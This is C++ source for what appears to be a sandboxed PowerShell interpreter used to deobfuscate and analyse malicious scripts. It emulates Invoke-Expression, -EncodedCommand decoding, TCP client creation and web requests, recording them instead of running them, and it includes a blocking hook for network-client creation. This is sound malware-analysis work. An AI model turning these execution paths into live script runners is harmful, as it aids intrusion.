      } else if (auto maybe = encoding_by_name(args[1].to_display_string())) {
        enc = *maybe;
      }
    }
    return Value(std::shared_ptr<PsObject>(
        std::make_shared<StreamReaderObject>(args[0].get_object(), enc)));
  }
  if (t == "random" || t == "system.random") {
    std::uint64_t seed = 0x9E3779B97F4A7C15ull;
    if (!args.empty()) seed = static_cast<std::uint64_t>(need_int(args[0], "seed"));
    return Value(std::shared_ptr<PsObject>(std::make_shared<RandomObject>(seed)));
  }
  if (t == "net.sockets.tcpclient") {
    std::string host = args.empty() ? "" : args[0].to_display_string();
    const int port = args.size() > 1 ? static_cast<int>(need_int(args[1], "port")) : 0;
    check_blocked("new-object net.sockets.tcpclient");
    if (opts_.recorder != nullptr && !host.empty()) {
      opts_.recorder->on_network("dns", host);
      opts_.recorder->on_network("tcp", host + ":" + std::to_string(port));
    }
    return Value(std::shared_ptr<PsObject>(
        std::make_shared<TcpClientObject>(std::move(host), port)));
  }
  if (t == "uri" || t == "system.uri") {
    return Value(args.empty() ? std::string() : args[0].to_display_string());
  }
  if (t == "security.securestring" || t == "securestring") {
    return Value(std::shared_ptr<PsObject>(std::make_shared<SecureStringObject>("")));
  }
  if (t == "object") {
    class GenericObject final : public PsObject {
     public:
      std::string type_name() const override { return "System.Object"; }
    };
    return Value(std::shared_ptr<PsObject>(std::make_shared<GenericObject>()));
  }

  // Unknown types become opaque objects: the recovery layer then keeps the
  // original piece (paper: Object results are not writable back as strings).
  class NamedObject final : public PsObject {
   public:
    explicit NamedObject(std::string name) : name_(std::move(name)) {}
    std::string type_name() const override { return name_; }

   private:
    std::string name_;
  };
  std::string full = type_name;
  if (normalize_type(full) == to_lower(full)) {
    full = "System." + full;  // cosmetic: .NET-style display name
  }
  return Value(std::shared_ptr<PsObject>(std::make_shared<NamedObject>(full)));
}

// ----------------------------------------------------- member eval glue

Value Interpreter::eval_member(const MemberExpressionAst& mem, std::string_view src) {
  std::string member_name;
  if (mem.member->kind() == NodeKind::StringConstantExpression) {
    member_name = static_cast<const StringConstantExpressionAst*>(mem.member.get())->value;
  } else {
    member_name = eval_expr(*mem.member, src).to_display_string();
  }
  if (mem.is_static || mem.target->kind() == NodeKind::TypeExpression) {
    const auto& ty = static_cast<const TypeExpressionAst&>(*mem.target);
    return static_member(ty.type_name, member_name);
  }
  const Value target = eval_expr(*mem.target, src);
  return instance_member(target, member_name);
}

Value Interpreter::eval_invoke_member(const InvokeMemberExpressionAst& inv,
                                      std::string_view src) {
  std::string member_name;
  if (inv.member->kind() == NodeKind::StringConstantExpression) {
    member_name = static_cast<const StringConstantExpressionAst*>(inv.member.get())->value;
  } else {
    member_name = eval_expr(*inv.member, src).to_display_string();
  }
  std::vector<Value> args;
  args.reserve(inv.arguments.size());
  for (const auto& a : inv.arguments) args.push_back(eval_expr(*a, src));

  if (inv.is_static && inv.target->kind() == NodeKind::TypeExpression) {
    const auto& ty = static_cast<const TypeExpressionAst&>(*inv.target);
    return static_invoke(ty.type_name, member_name, args);
  }
  const Value target = eval_expr(*inv.target, src);
  return instance_invoke(target, member_name, args);
}

}  // namespace ps
