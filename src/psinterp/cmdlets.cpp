// Command invocation and the built-in cmdlet table: the PowerShell host
// surface (Invoke-Expression, ForEach-Object, powershell -EncodedCommand,
// New-Object, ConvertTo-SecureString, ...) that obfuscated scripts drive.

#include <algorithm>
#include <regex>

#include "pslang/alias_table.h"
#include "psinterp/aes.h"
#include "psinterp/interpreter.h"
#include "psinterp/objects.h"

namespace ps {

namespace {

/// Parameters that never consume a following argument.
bool is_switch_parameter(const std::string& lower) {
  static const char* kSwitches[] = {
      "force",   "asplaintext", "passthru",  "unique",   "descending",
      "valueonly", "wait",      "noexit",    "nop",      "noprofile",
      "noninteractive", "noni", "nologo",    "sta",      "mta",
      "recurse", "useb",        "usebasicparsing",       "hidden",
      "confirm", "whatif",      "allmatches", "quiet",   "raw",
      "casesensitive", "asbytestream"};
  for (const char* s : kSwitches) {
    if (lower == s) return true;
  }
  return false;
}

std::string join_display(const std::vector<Value>& vals, const char* sep = " ") {
  std::string out;
  for (std::size_t i = 0; i < vals.size(); ++i) {
    if (i) out += sep;
    out += vals[i].to_display_string();
  }
  return out;
}

ByteVec securestring_key(const Value& v) {
  ByteVec key;
  for (const Value& item : v.is_array() ? v.get_array() : Array{v}) {
    std::int64_t b = 0;
    item.try_to_int(b);
    key.push_back(static_cast<std::uint8_t>(b & 0xFF));
  }
  if (key.size() <= 16) key.resize(16, 0);
  else if (key.size() <= 24) key.resize(24, 0);
  else key.resize(32, 0);
  return key;
}

}  // namespace

void Interpreter::exec_command(const CommandAst& cmd, std::string_view src,
                               std::vector<Value> input, std::vector<Value>& out) {
  charge_step();
  if (cmd.elements.empty()) return;

  // Resolve the command name element.
  std::string name;
  Value name_value;
  const Ast& first = *cmd.elements.front();
  if (first.kind() == NodeKind::StringConstantExpression) {
    name = static_cast<const StringConstantExpressionAst&>(first).value;
  } else {
    name_value = eval_expr(first, src);
    if (name_value.is_scriptblock()) {
      // `& { ... } args` / `& $sb`.
      std::vector<Value> args;
      for (std::size_t i = 1; i < cmd.elements.size(); ++i) {
        args.push_back(eval_expr(*cmd.elements[i], src));
      }
      scopes_.emplace_back();
      scopes_.back().vars["args"] = Value(Array(args.begin(), args.end()));
      try {
        invoke_scriptblock(name_value.get_scriptblock(), input, false, out);
      } catch (...) {
        scopes_.pop_back();
        throw;
      }
      scopes_.pop_back();
      return;
    }
    name = name_value.to_display_string();
  }

  std::string lower = to_lower(name);
  if (auto it = user_aliases_.find(lower); it != user_aliases_.end()) {
    lower = to_lower(it->second);
  }
  if (auto full = AliasTable::standard().resolve(lower)) {
    lower = to_lower(*full);
  }
  // Strip path/extension decorations: ".\x.ps1", "C:\...\powershell.exe".
  if (const auto slash = lower.find_last_of("/\\"); slash != std::string::npos) {
    const std::string base = lower.substr(slash + 1);
    if (base == "powershell.exe" || base == "powershell" || base == "pwsh" ||
        base == "cmd.exe" || base == "cmd") {
      lower = base;
    }
  }
  if (lower == "powershell.exe") lower = "powershell";
  if (lower == "cmd.exe") lower = "cmd";

  check_blocked(lower);

  // User-defined function?
  if (auto fit = functions_.find(lower); fit != functions_.end()) {
    std::vector<Value> args;
    for (std::size_t i = 1; i < cmd.elements.size(); ++i) {
      if (cmd.elements[i]->kind() == NodeKind::CommandParameter) continue;
      args.push_back(eval_expr(*cmd.elements[i], src));
    }
    Value result = call_function(fit->second, args);
    for (Value& v : result.is_array() ? result.get_array() : Array{result}) {
      if (!v.is_null()) out.push_back(std::move(v));
    }
    return;
  }

  // Bind arguments / parameters.
  CommandCall call;
  call.name = lower;
  call.input = std::move(input);
  call.source = src;
  call.raw_text = std::string(cmd.text_in(src));
  for (std::size_t i = 1; i < cmd.elements.size(); ++i) {
    const Ast& el = *cmd.elements[i];
    if (el.kind() == NodeKind::CommandParameter) {
      const auto& p = static_cast<const CommandParameterAst&>(el);
      std::string pname = to_lower(p.name);
      if (!pname.empty() && pname.front() == '-') pname = pname.substr(1);
      Value pval(true);
      if (p.argument != nullptr) {
        pval = eval_expr(*p.argument, src);
      } else if (!is_switch_parameter(pname) && i + 1 < cmd.elements.size() &&
                 cmd.elements[i + 1]->kind() != NodeKind::CommandParameter) {
        pval = eval_expr(*cmd.elements[i + 1], src);
        ++i;
      }
      call.params[pname] = std::move(pval);
      call.param_order.push_back(pname);
      continue;
    }
    call.raw_args.push_back(&el);
    call.args.push_back(eval_expr(el, src));
  }
  run_command(call, out);
}

void Interpreter::run_command(CommandCall& call, std::vector<Value>& out) {
  const std::string& name = call.name;
  auto* rec = opts_.recorder;

  auto param = [&](std::initializer_list<const char*> names) -> const Value* {
    for (const char* n : names) {
      auto it = call.params.find(n);
      if (it != call.params.end()) return &it->second;
    }
    return nullptr;
  };
  auto arg_or_param = [&](std::initializer_list<const char*> names,
                          std::size_t pos = 0) -> Value {
    if (const Value* p = param(names)) return *p;
    if (pos < call.args.size()) return call.args[pos];
    return Value();
  };

  // ------------------------------------------------------------- output
  if (name == "write-host" || name == "out-host" || name == "out-default" ||
      name == "write-error" || name == "write-warning" ||
      name == "write-verbose" || name == "write-debug" ||
      name == "write-information") {
    std::string text = join_display(call.args);
    if (call.args.empty() && !call.input.empty()) text = join_display(call.input);
    if (const Value* obj = param({"object", "message"})) text = obj->to_display_string();
    if (rec != nullptr) rec->on_host_output(text);
    return;
  }
  if (name == "write-output") {
    for (const Value& v : call.args) out.push_back(v);
    for (const Value& v : call.input) out.push_back(v);
    return;
  }
  if (name == "out-null") return;
  if (name == "out-string") {
    std::string text = join_display(call.input, "\r\n");
    out.push_back(Value(std::move(text)));
    return;
  }
  if (name == "out-file" || name == "set-content" || name == "add-content") {
    Value path = arg_or_param({"path", "filepath", "literalpath"});
    Value content = arg_or_param({"value", "inputobject"}, 1);
    if (path.is_null() && !call.args.empty()) path = call.args[0];
    if (content.is_null() && !call.input.empty()) {
      std::string joined;
      for (std::size_t i = 0; i < call.input.size(); ++i) {
        if (i) joined += "\n";
        joined += call.input[i].to_display_string();
      }
      content = Value(std::move(joined));
    }
    const std::string key = to_lower(path.to_display_string());
    if (name == "add-content") {
      virtual_fs_[key] += content.to_display_string();
    } else {
      virtual_fs_[key] = content.to_display_string();
    }
    if (rec != nullptr) rec->on_file("write", path.to_display_string());
    return;
  }
  if (name == "get-content") {
    const Value path = arg_or_param({"path", "literalpath"});
    if (rec != nullptr) rec->on_file("read", path.to_display_string());
    auto it = virtual_fs_.find(to_lower(path.to_display_string()));
    out.push_back(Value(it != virtual_fs_.end() ? it->second : std::string()));
    return;
  }

  // ---------------------------------------------------------- pipeline
  if (name == "foreach-object" || name == "%") {
    Value sb = arg_or_param({"process"});
    if (sb.is_scriptblock()) {
      invoke_scriptblock(sb.get_scriptblock(), call.input, /*per_item=*/true, out);
      return;
    }
    // `| % membername` member-invocation form.
    const std::string member = sb.to_display_string();
    for (const Value& item : call.input) {
      try {
        out.push_back(instance_invoke(item, member, {}));
      } catch (const EvalError&) {
        out.push_back(instance_member(item, member));
      }
    }
    return;
  }
  if (name == "where-object" || name == "?") {
    Value sb = arg_or_param({"filterscript"});
    if (!sb.is_scriptblock()) {
      for (const Value& v : call.input) out.push_back(v);
      return;
    }
    for (const Value& item : call.input) {
      std::vector<Value> result;
      invoke_scriptblock(sb.get_scriptblock(), {item}, /*per_item=*/true, result);
      if (Value::from_stream(std::move(result)).to_bool()) out.push_back(item);
    }
    return;
  }
  if (name == "select-object") {
    std::size_t first = call.input.size();
    if (const Value* f = param({"first"})) {
      first = static_cast<std::size_t>(need_int(*f, "-First"));
    }
    std::size_t count = 0;
    for (const Value& v : call.input) {
      if (count++ >= first) break;
      out.push_back(v);
    }
    return;
  }
  if (name == "sort-object") {
    std::vector<Value> items = call.input;
    std::stable_sort(items.begin(), items.end(), [](const Value& a, const Value& b) {
      double x = 0, y = 0;
      if (a.try_to_double(x) && b.try_to_double(y) && a.is_number() && b.is_number()) {
        return x < y;
      }
      return to_lower(a.to_display_string()) < to_lower(b.to_display_string());
    });
    if (param({"descending"}) != nullptr) std::reverse(items.begin(), items.end());
    if (param({"unique"}) != nullptr) {
      std::vector<Value> dedup;
      for (const Value& v : items) {
        bool seen = false;
        for (const Value& u : dedup) {
          if (iequals(u.to_display_string(), v.to_display_string())) {
            seen = true;
            break;
          }
        }
        if (!seen) dedup.push_back(v);
      }
      items = std::move(dedup);
    }
    for (Value& v : items) out.push_back(std::move(v));
    return;
  }
  if (name == "measure-object") {
    Hashtable ht;
    ht.entries.emplace_back(Value("Count"),
                            Value(static_cast<std::int64_t>(call.input.size())));
    out.push_back(Value(std::move(ht)));
    return;
  }
  if (name == "select-string") {
    const std::string pattern = arg_or_param({"pattern"}).to_display_string();
    try {
      const std::regex re(pattern, std::regex::ECMAScript | std::regex::icase);
      for (const Value& v : call.input) {
        if (std::regex_search(v.to_display_string(), re)) out.push_back(v);
      }
    } catch (const std::regex_error&) {
      throw EvalError("bad pattern for Select-String");
    }
    return;
  }
  if (name == "tee-object" || name == "group-object" || name == "compare-object") {
    for (const Value& v : call.input) out.push_back(v);
    return;
  }

  // --------------------------------------------------------- execution
  if (name == "invoke-expression") {
    std::vector<Value> scripts = call.args;
    if (const Value* c = param({"command"})) scripts.push_back(*c);
    for (const Value& v : call.input) scripts.push_back(v);
    for (const Value& s : scripts) {
      const std::string text = s.to_display_string();
      Value result = evaluate_script(text);
      for (Value& v : result.is_array() ? result.get_array() : Array{result}) {
        if (!v.is_null()) out.push_back(std::move(v));
      }
    }
    return;
  }
  if (name == "invoke-command") {
    Value sb = arg_or_param({"scriptblock"});
    if (sb.is_scriptblock()) {
      invoke_scriptblock(sb.get_scriptblock(), call.input, false, out);
    } else {
      Value result = evaluate_script(sb.to_display_string());
      if (!result.is_null()) out.push_back(std::move(result));
    }
    return;
  }
  if (name == "powershell" || name == "pwsh") {
    if (rec != nullptr) rec->on_process("powershell " + join_display(call.args));
    // Resolve abbreviated parameters the way powershell.exe does:
    // '-encodedcommand'.StartsWith($param).
    std::string encoded, command, file;
    for (const std::string& pname : call.param_order) {
      const Value& pv = call.params[pname];
      const std::string full_enc = "encodedcommand";
      const std::string full_cmd = "command";
      const std::string full_file = "file";
      if (full_enc.rfind(pname, 0) == 0 && !pname.empty()) {
        encoded = pv.to_display_string();
      } else if (full_cmd.rfind(pname, 0) == 0 && pname.size() >= 1 &&
                 pname[0] == 'c') {
        command = pv.to_display_string();
      } else if (full_file.rfind(pname, 0) == 0 && pname[0] == 'f') {
        file = pv.to_display_string();
      }
    }
    if (!encoded.empty()) {
      const auto bytes = base64_decode(encoded);
      if (!bytes) throw EvalError("bad -EncodedCommand payload");
      const std::string script = encoding_get_string(TextEncoding::Unicode, *bytes);
      Value result = evaluate_script(script);
      for (Value& v : result.is_array() ? result.get_array() : Array{result}) {
        if (!v.is_null()) out.push_back(std::move(v));
      }
      return;
    }
    if (!command.empty()) {
      Value result = evaluate_script(command);
      if (!result.is_null()) out.push_back(std::move(result));
      return;
    }
    if (!file.empty() && rec != nullptr) rec->on_file("read", file);
    // Bare positional argument: treated as -Command.
    if (!call.args.empty()) {
      Value result = evaluate_script(join_display(call.args));
      if (!result.is_null()) out.push_back(std::move(result));
    }
    return;
  }
  if (name == "cmd") {
    if (rec != nullptr) rec->on_process("cmd " + join_display(call.args));
    // `cmd /c <command>`: when the tail is a PowerShell invocation, run it.
    std::vector<std::string> words;
    for (const Value& a : call.args) words.push_back(a.to_display_string());
    for (std::size_t i = 0; i < words.size(); ++i) {
      const std::string w = to_lower(words[i]);
      if (w == "powershell" || w == "powershell.exe") {
        std::string rest;
        for (std::size_t j = i + 1; j < words.size(); ++j) {
          if (!rest.empty()) rest += " ";
          rest += words[j];
        }
        if (!rest.empty()) {
          Value result = evaluate_script(rest);
          if (!result.is_null()) out.push_back(std::move(result));
        }
        return;
      }
    }
    return;
  }
  if (name == "start-process") {
    const Value path = arg_or_param({"filepath"});
    const Value args = arg_or_param({"argumentlist"}, 1);
    std::string line = path.to_display_string();
    if (!args.is_null()) line += " " + args.to_display_string();
    if (rec != nullptr) rec->on_process(line);
    if (param({"passthru"}) != nullptr) {
      out.push_back(Value(std::shared_ptr<PsObject>(
          std::make_shared<ProcessObject>(line))));
    }
    return;
  }
  if (name == "invoke-item") {
    if (rec != nullptr) rec->on_process(arg_or_param({"path"}).to_display_string());
    return;
  }
  if (name == "stop-process" || name == "stop-computer" ||
      name == "restart-computer" || name == "restart-service" ||
      name == "start-service" || name == "stop-service") {
    if (rec != nullptr) rec->on_process(name + " " + join_display(call.args));
    return;
  }
  if (name == "start-sleep") {
    double seconds = 0;
    if (const Value* s = param({"seconds", "s"})) {
      s->try_to_double(seconds);
    } else if (const Value* ms = param({"milliseconds", "m"})) {
      ms->try_to_double(seconds);
      seconds /= 1000.0;
    } else if (!call.args.empty()) {
      call.args[0].try_to_double(seconds);
    }
    if (rec != nullptr) rec->on_sleep(seconds);
    return;
  }

  // ------------------------------------------------------------ network
  if (name == "invoke-webrequest" || name == "invoke-restmethod") {
    const Value uri = arg_or_param({"uri", "url"});
    const std::string content = simulated_download(uri.to_display_string());
    if (const Value* outfile = param({"outfile"})) {
      if (rec != nullptr) rec->on_file("write", outfile->to_display_string());
      return;
    }
    out.push_back(Value(content));
    return;
  }
  if (name == "test-connection") {
    const Value host = arg_or_param({"computername"});
    if (rec != nullptr) rec->on_network("dns", host.to_display_string());
    out.push_back(Value(true));
    return;
  }

  // ------------------------------------------------------------ objects
  if (name == "new-object") {
    const Value type = arg_or_param({"typename"});
    std::vector<Value> ctor_args;
    if (const Value* al = param({"argumentlist"})) {
      if (al->is_array()) ctor_args = al->get_array();
      else ctor_args.push_back(*al);
    } else if (call.args.size() > 1) {
      if (call.args.size() == 2 && call.args[1].is_array()) {
        ctor_args = call.args[1].get_array();
      } else {
        ctor_args.assign(call.args.begin() + 1, call.args.end());
      }
    }
    // Constructor arguments arrive with one level of array nesting per
    // grouping construct (`(a, b)`, `(,$bytes)`, `(inner), $enc`); flatten
    // them so positional binding sees the leaf values.
    std::vector<Value> flat;
    std::function<void(const Value&)> add = [&](const Value& v) {
      if (v.is_array()) {
        for (const Value& item : v.get_array()) add(item);
      } else if (!v.is_null()) {
        flat.push_back(v);
      }
    };
    for (const Value& v : ctor_args) add(v);
    out.push_back(construct_object(type.to_display_string(), flat));
    return;
  }
  if (name == "convertto-securestring") {
    const Value text = arg_or_param({"string"});
    if (param({"asplaintext"}) != nullptr) {
      out.push_back(Value(std::shared_ptr<PsObject>(
          std::make_shared<SecureStringObject>(text.to_display_string()))));
      return;
    }
    if (const Value* key = param({"key", "securekey"})) {
      const auto plain =
          securestring::unprotect(text.to_display_string(), securestring_key(*key));
      if (!plain) throw EvalError("ConvertTo-SecureString: bad blob or key");
      out.push_back(Value(std::shared_ptr<PsObject>(
          std::make_shared<SecureStringObject>(*plain))));
      return;
    }
    throw EvalError("ConvertTo-SecureString needs -Key or -AsPlainText");
  }
  if (name == "convertfrom-securestring") {
    Value ss = arg_or_param({"securestring"});
    if (ss.is_null() && !call.input.empty()) ss = call.input.front();
    if (!ss.is_object()) throw EvalError("ConvertFrom-SecureString needs a SecureString");
    auto* sso = dynamic_cast<SecureStringObject*>(ss.get_object().get());
    if (sso == nullptr) throw EvalError("ConvertFrom-SecureString needs a SecureString");
    ByteVec key(16, 0);
    if (const Value* k = param({"key"})) key = securestring_key(*k);
    ByteVec iv(16, 0);
    for (std::size_t i = 0; i < 16; ++i) iv[i] = static_cast<std::uint8_t>(key[i] ^ 0xA5);
    out.push_back(Value(securestring::protect(sso->plain, key, iv)));
    return;
  }

  // ---------------------------------------------------------- variables
  if (name == "get-variable") {
    const Value vn = arg_or_param({"name"});
    const std::string lower = to_lower(vn.to_display_string());
    if (auto v = get_variable(lower)) {
      out.push_back(*v);
      return;
    }
    // Automatic variables resolve through the expression path.
    VariableExpressionAst fake(0, 0, lower);
    out.push_back(eval_variable(fake));
    return;
  }
  if (name == "set-variable" || name == "new-variable") {
    const Value vn = arg_or_param({"name"});
    const Value vv = arg_or_param({"value"}, 1);
    assign_variable(to_lower(vn.to_display_string()), vv);
    return;
  }
  if (name == "remove-variable" || name == "clear-variable") return;
  if (name == "set-alias" || name == "new-alias") {
    const Value an = arg_or_param({"name"});
    const Value av = arg_or_param({"value"}, 1);
    user_aliases_[to_lower(an.to_display_string())] = av.to_display_string();
    return;
  }
  if (name == "get-alias") {
    const Value an = arg_or_param({"name"});
    if (auto full = AliasTable::standard().resolve(an.to_display_string())) {
      out.push_back(Value(*full));
    }
    return;
  }

  // -------------------------------------------------------------- misc
  if (name == "get-random") {
    static RandomObject shared_rng;
    std::int64_t lo = 0, hi = 2147483647;
    if (const Value* mn = param({"minimum"})) lo = need_int(*mn, "-Minimum");
    if (const Value* mx = param({"maximum"})) hi = need_int(*mx, "-Maximum");
    if (!call.input.empty()) {
      out.push_back(call.input[static_cast<std::size_t>(
          shared_rng.next(0, static_cast<std::int64_t>(call.input.size())))]);
      return;
    }
    out.push_back(Value(shared_rng.next(lo, hi)));
    return;
  }
  if (name == "get-date") {
    out.push_back(Value(std::string("05/29/2021 12:00:00")));
    return;
  }
  if (name == "join-path") {
    const Value a = arg_or_param({"path"});
    const Value b = arg_or_param({"childpath"}, 1);
    std::string p = a.to_display_string();
    if (!p.empty() && p.back() != '\\') p += "\\";
    out.push_back(Value(p + b.to_display_string()));
    return;
  }
  if (name == "split-path") {
    const std::string p = arg_or_param({"path"}).to_display_string();
    const auto slash = p.find_last_of("/\\");
    if (param({"leaf"}) != nullptr) {
      out.push_back(Value(slash == std::string::npos ? p : p.substr(slash + 1)));
    } else {
      out.push_back(Value(slash == std::string::npos ? std::string() : p.substr(0, slash)));
    }
    return;
  }
  if (name == "test-path") {
    const Value path = arg_or_param({"path", "literalpath"});
    out.push_back(Value(virtual_fs_.count(to_lower(path.to_display_string())) > 0));
    return;
  }
  if (name == "get-location") {
    out.push_back(Value(std::string("C:\\Users\\user")));
    return;
  }
  if (name == "set-location" || name == "push-location" || name == "pop-location") return;
  if (name == "get-process") {
    out.push_back(Value(std::string("powershell")));
    return;
  }
  if (name == "get-executionpolicy") {
    out.push_back(Value(std::string("Unrestricted")));
    return;
  }
  if (name == "set-executionpolicy" || name == "add-type" ||
      name == "import-module" || name == "remove-module" ||
      name == "clear-host" || name == "out-gridview" ||
      name == "add-pssnapin" || name == "clear-content") {
    return;
  }
  if (name == "read-host") {
    out.push_back(Value(std::string()));
    return;
  }
  if (name == "get-host") {
    out.push_back(construct_object("management.automation.host", {}));
    return;
  }
  if (name == "get-command") {
    out.push_back(arg_or_param({"name"}));
    return;
  }
  if (name == "get-wmiobject" || name == "get-ciminstance") {
    out.push_back(construct_object("management.managementobject", {}));
    return;
  }
  if (name == "new-itemproperty" || name == "set-itemproperty") {
    if (rec != nullptr) {
      rec->on_file("registry", arg_or_param({"path"}).to_display_string());
    }
    return;
  }
  if (name == "get-itemproperty") {
    out.push_back(Value(std::string()));
    return;
  }
  if (name == "new-item" || name == "mkdir") {
    if (rec != nullptr) rec->on_file("create", arg_or_param({"path"}).to_display_string());
    return;
  }
  if (name == "remove-item") {
    if (rec != nullptr) rec->on_file("delete", arg_or_param({"path"}).to_display_string());
    return;
  }
  if (name == "copy-item" || name == "move-item") {
    if (rec != nullptr) {
      rec->on_file("write", arg_or_param({"destination"}, 1).to_display_string());
    }
    return;
  }
  if (name == "get-item" || name == "get-childitem") {
    return;  // empty result set in the sandbox's virtual filesystem
  }
  if (name == "get-member") {
    out.push_back(Value(std::string()));
    return;
  }
  if (name == "start-job" || name == "wait-job" || name == "receive-job" ||
      name == "remove-job" || name == "get-job") {
    if (name == "start-job") {
      Value sb = arg_or_param({"scriptblock"});
      if (sb.is_scriptblock()) invoke_scriptblock(sb.get_scriptblock(), {}, false, out);
    }
    return;
  }

  // Unknown command: in sandbox mode record it and continue (wild scripts
  // invoke all sorts of binaries); in recovery mode fail so the piece is kept.
  if (rec != nullptr) {
    rec->on_process(name + " " + join_display(call.args));
    return;
  }
  throw EvalError("unknown command: " + name);
}

}  // namespace ps
