#include "psinterp/encodings.h"

#include <array>
#include <cctype>

#include "psvalue/value.h"

namespace ps {

namespace {
constexpr std::string_view kB64Alphabet =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

int b64_value(char c) {
  if (c >= 'A' && c <= 'Z') return c - 'A';
  if (c >= 'a' && c <= 'z') return c - 'a' + 26;
  if (c >= '0' && c <= '9') return c - '0' + 52;
  if (c == '+') return 62;
  if (c == '/') return 63;
  return -1;
}
}  // namespace

std::string base64_encode(const ByteVec& data) {
  std::string out;
  out.reserve((data.size() + 2) / 3 * 4);
  std::size_t i = 0;
  while (i + 3 <= data.size()) {
    const std::uint32_t n = (data[i] << 16) | (data[i + 1] << 8) | data[i + 2];
    out.push_back(kB64Alphabet[(n >> 18) & 63]);
    out.push_back(kB64Alphabet[(n >> 12) & 63]);
    out.push_back(kB64Alphabet[(n >> 6) & 63]);
    out.push_back(kB64Alphabet[n & 63]);
    i += 3;
  }
  const std::size_t rem = data.size() - i;
  if (rem == 1) {
    const std::uint32_t n = data[i] << 16;
    out.push_back(kB64Alphabet[(n >> 18) & 63]);
    out.push_back(kB64Alphabet[(n >> 12) & 63]);
    out += "==";
  } else if (rem == 2) {
    const std::uint32_t n = (data[i] << 16) | (data[i + 1] << 8);
    out.push_back(kB64Alphabet[(n >> 18) & 63]);
    out.push_back(kB64Alphabet[(n >> 12) & 63]);
    out.push_back(kB64Alphabet[(n >> 6) & 63]);
    out.push_back('=');
  }
  return out;
}

std::optional<ByteVec> base64_decode(std::string_view text) {
  ByteVec out;
  std::uint32_t acc = 0;
  int bits = 0;
  int padding = 0;
  for (char c : text) {
    if (std::isspace(static_cast<unsigned char>(c))) continue;
    if (c == '=') {
      ++padding;
      continue;
    }
    if (padding > 0) return std::nullopt;  // data after padding
    const int v = b64_value(c);
    if (v < 0) return std::nullopt;
    acc = (acc << 6) | static_cast<std::uint32_t>(v);
    bits += 6;
    if (bits >= 8) {
      bits -= 8;
      out.push_back(static_cast<std::uint8_t>((acc >> bits) & 0xFF));
    }
  }
  if (padding > 2) return std::nullopt;
  return out;
}

bool looks_like_base64(std::string_view text) {
  if (text.empty()) return false;
  std::size_t n = 0;
  std::size_t pad = 0;
  for (char c : text) {
    if (std::isspace(static_cast<unsigned char>(c))) continue;
    if (c == '=') {
      ++pad;
      continue;
    }
    if (pad > 0 || b64_value(c) < 0) return false;
    ++n;
  }
  return pad <= 2 && (n + pad) % 4 == 0 && n > 0;
}

std::optional<std::int64_t> convert_to_int(std::string_view s, int base) {
  while (!s.empty() && std::isspace(static_cast<unsigned char>(s.front()))) s.remove_prefix(1);
  while (!s.empty() && std::isspace(static_cast<unsigned char>(s.back()))) s.remove_suffix(1);
  if (s.empty()) return std::nullopt;
  bool neg = false;
  if (s.front() == '-') {
    neg = true;
    s.remove_prefix(1);
  }
  if (base == 16 && s.size() > 2 && s[0] == '0' && (s[1] == 'x' || s[1] == 'X')) {
    s.remove_prefix(2);
  }
  if (s.empty()) return std::nullopt;
  std::int64_t out = 0;
  for (char c : s) {
    int digit;
    if (c >= '0' && c <= '9') digit = c - '0';
    else if (c >= 'a' && c <= 'z') digit = c - 'a' + 10;
    else if (c >= 'A' && c <= 'Z') digit = c - 'A' + 10;
    else return std::nullopt;
    if (digit >= base) return std::nullopt;
    out = out * base + digit;
  }
  return neg ? -out : out;
}

std::string convert_to_string_base(std::int64_t value, int base) {
  if (value == 0) return "0";
  const bool neg = value < 0;
  std::uint64_t v = neg ? static_cast<std::uint64_t>(-value)
                        : static_cast<std::uint64_t>(value);
  std::string out;
  while (v != 0) {
    const int d = static_cast<int>(v % static_cast<std::uint64_t>(base));
    out.push_back(d < 10 ? static_cast<char>('0' + d)
                         : static_cast<char>('a' + d - 10));
    v /= static_cast<std::uint64_t>(base);
  }
  if (neg) out.push_back('-');
  return {out.rbegin(), out.rend()};
}

std::uint32_t utf8_next(std::string_view s, std::size_t& i) {
  const auto byte = [&](std::size_t k) -> std::uint32_t {
    return static_cast<std::uint8_t>(s[k]);
  };
  const std::uint32_t b0 = byte(i);
  if (b0 < 0x80) {
    ++i;
    return b0;
  }
  auto cont = [&](std::size_t k) {
    return k < s.size() && (byte(k) & 0xC0) == 0x80;
  };
  if ((b0 & 0xE0) == 0xC0 && cont(i + 1)) {
    const std::uint32_t cp = ((b0 & 0x1F) << 6) | (byte(i + 1) & 0x3F);
    i += 2;
    return cp;
  }
  if ((b0 & 0xF0) == 0xE0 && cont(i + 1) && cont(i + 2)) {
    const std::uint32_t cp =
        ((b0 & 0x0F) << 12) | ((byte(i + 1) & 0x3F) << 6) | (byte(i + 2) & 0x3F);
    i += 3;
    return cp;
  }
  if ((b0 & 0xF8) == 0xF0 && cont(i + 1) && cont(i + 2) && cont(i + 3)) {
    const std::uint32_t cp = ((b0 & 0x07) << 18) | ((byte(i + 1) & 0x3F) << 12) |
                             ((byte(i + 2) & 0x3F) << 6) | (byte(i + 3) & 0x3F);
    i += 4;
    return cp;
  }
  ++i;  // invalid byte: latin-1 fallback
  return b0;
}

std::size_t utf8_length(std::string_view s) {
  std::size_t i = 0, n = 0;
  while (i < s.size()) {
    utf8_next(s, i);
    ++n;
  }
  return n;
}

std::vector<std::uint32_t> utf8_codepoints(std::string_view s) {
  std::vector<std::uint32_t> out;
  std::size_t i = 0;
  while (i < s.size()) out.push_back(utf8_next(s, i));
  return out;
}

std::string encoding_get_string(TextEncoding enc, const ByteVec& bytes) {
  std::string out;
  switch (enc) {
    case TextEncoding::Ascii:
      for (std::uint8_t b : bytes) out.push_back(static_cast<char>(b & 0x7F));
      return out;
    case TextEncoding::Utf8:
      return std::string(bytes.begin(), bytes.end());
    case TextEncoding::Unicode: {
      for (std::size_t i = 0; i + 1 < bytes.size(); i += 2) {
        std::uint32_t unit = bytes[i] | (bytes[i + 1] << 8);
        if (unit >= 0xD800 && unit <= 0xDBFF && i + 3 < bytes.size()) {
          const std::uint32_t low = bytes[i + 2] | (bytes[i + 3] << 8);
          if (low >= 0xDC00 && low <= 0xDFFF) {
            unit = 0x10000 + ((unit - 0xD800) << 10) + (low - 0xDC00);
            i += 2;
          }
        }
        out += utf8_encode(unit);
      }
      return out;
    }
    case TextEncoding::BigEndianUnicode: {
      for (std::size_t i = 0; i + 1 < bytes.size(); i += 2) {
        const std::uint32_t unit = (bytes[i] << 8) | bytes[i + 1];
        out += utf8_encode(unit);
      }
      return out;
    }
  }
  return out;
}

ByteVec encoding_get_bytes(TextEncoding enc, std::string_view text) {
  ByteVec out;
  switch (enc) {
